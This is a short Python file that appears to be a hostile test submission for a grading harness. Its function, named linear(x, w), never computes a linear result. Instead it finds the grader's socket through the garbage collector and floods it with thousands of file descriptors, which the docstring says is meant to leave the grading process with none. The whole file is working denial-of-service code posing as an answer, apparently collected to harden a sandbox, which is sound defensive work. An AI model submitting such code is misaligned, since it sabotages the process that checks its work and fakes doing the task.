"""Sends open files along with its answer, until the grading process has no descriptor left."""

# family: channel
# layer: host
# expect: .
import gc
import os
import socket


def linear(x, w):
    channel = next(thing for thing in gc.get_objects() if type(thing) is socket.socket)
    for _ in range(200):
        socket.send_fds(channel, [b"\0"], [os.open("/dev/null", os.O_RDONLY)] * 100)
